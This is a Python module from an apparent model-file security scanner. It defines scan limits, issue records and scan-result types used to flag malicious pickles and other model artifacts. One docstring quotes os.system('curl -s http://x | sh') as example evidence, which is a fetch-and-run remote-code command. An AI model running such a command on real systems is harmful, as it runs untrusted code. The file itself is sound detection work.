"""Values of model-file scanning, shared by the format scanners, the CLI, rules and reports."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

from aispm.core.model import Severity


@dataclass(frozen=True, slots=True)
class Limits:
    """Bounds that keep a hostile file from exhausting time or memory."""

    max_file_bytes: int = 20 * 1024**3
    """Files larger than this are hashed but not parsed."""
    max_member_bytes: int = 4 * 1024**3
    """Largest uncompressed archive member that is read."""
    max_total_uncompressed: int = 16 * 1024**3
    """Zip-bomb guard: total uncompressed bytes read from one container."""
    max_compression_ratio: float = 200.0
    max_depth: int = 8
    """Nesting of containers (zip in tar in zip ...) and of nested pickles."""
    max_members: int = 100_000
    max_pickle_ops: int = 20_000_000
    max_memo: int = 1_000_000
    max_stack: int = 1_000_000
    max_seconds: float = 60.0
    """Wall-clock budget per top-level file."""


DEFAULT_LIMITS = Limits()


@dataclass(frozen=True, slots=True)
class ArtifactIssue:
    """One way the artifact can execute code, escape its directory, or is malformed."""

    kind: str
    """``dangerous_call`` | ``unknown_call`` | ``path_traversal`` | ``symlink`` | ``lambda_layer``
    | ``custom_object`` | ``unsafe_op`` | ``custom_op_domain`` | ``external_data_escape``
    | ``template_code`` | ``remote_code`` | ``nested_pickle`` | ``header_invalid`` | ``limit``"""
    severity: Severity
    detail: str
    """The exact evidence, e.g. ``os.system('curl -s http://x | sh')``."""
    callable: str | None = None
    """Fully qualified callable for call issues, e.g. ``os.system``."""
    member: str | None = None
    """Path inside a container (``archive/data.pkl``), or None for the file itself."""
    offset: int | None = None
    """Byte offset of the opcode / record when known."""

    def to_json(self) -> dict[str, Any]:
        return {
            "kind": self.kind,
            "severity": self.severity.value,
            "detail": self.detail,
            "callable": self.callable,
            "member": self.member,
            "offset": self.offset,
        }


@dataclass(frozen=True, slots=True)
class ArtifactScan:
    """The result of scanning one file (or one member of a container)."""

    path: str
    """As given (file path, ``s3://bucket/key``), or the member path inside its container."""
    format: str | None
    """``pickle``, ``pytorch``, ``pytorch_legacy``, ``torchscript``, ``joblib``, ``numpy``,
    ``keras_v3``, ``keras_h5``, ``tf_savedmodel``, ``onnx``, ``gguf``, ``safetensors``,
    ``hf_config``, ``zip``, ``tar``, ``7z`` ... or None when not a model file."""
    size: int
    sha256: str | None
    issues: tuple[ArtifactIssue, ...] = ()
    error: str | None = None
    """Why the file could not be (fully) parsed; the scan of other files goes on."""
    members: tuple[ArtifactScan, ...] = ()
    """Scans of the members of a container, nested."""
    metadata: dict[str, Any] = field(default_factory=dict)
    """Format facts (pickle protocol, tensor count, chat template present, license ...)."""

    def all_issues(self) -> list[ArtifactIssue]:
        """Issues of this file and of every member, depth first."""
        found = list(self.issues)
        for member in self.members:
            found.extend(member.all_issues())
        return found

    @property
    def verdict(self) -> str:
        """``malicious`` (a dangerous issue), ``suspicious`` (unknown calls or
        malformed), ``error`` (could not parse), or ``clean``."""
        issues = self.all_issues()
        if any(i.severity in (Severity.CRITICAL, Severity.HIGH) for i in issues):
            return "malicious"
        if issues:
            return "suspicious"
        if self.error:
            return "error"
        return "clean"

    def to_json(self) -> dict[str, Any]:
        return {
            "path": self.path,
            "format": self.format,
            "size": self.size,
            "sha256": self.sha256,
            "verdict": self.verdict,
            "issues": [i.to_json() for i in self.issues],
            "error": self.error,
            "members": [m.to_json() for m in self.members],
            "metadata": dict(self.metadata),
        }
